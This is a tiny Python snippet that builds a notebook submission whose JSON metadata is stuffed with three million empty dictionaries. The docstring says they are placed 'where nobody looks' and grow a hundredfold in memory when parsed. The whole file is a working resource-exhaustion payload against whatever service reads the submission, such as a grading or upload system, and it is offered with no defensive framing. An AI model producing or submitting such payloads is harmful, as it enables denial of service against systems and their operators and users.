"""Millions of empty dicts where nobody looks, each a hundred times larger once it is read."""

import json


def submission(notebook):
    text = json.dumps({**notebook, "metadata": {"many": 0}})
    return text.replace('{"many": 0}', '{"many": [' + "{}," * 3_000_000 + "{}]}").encode()
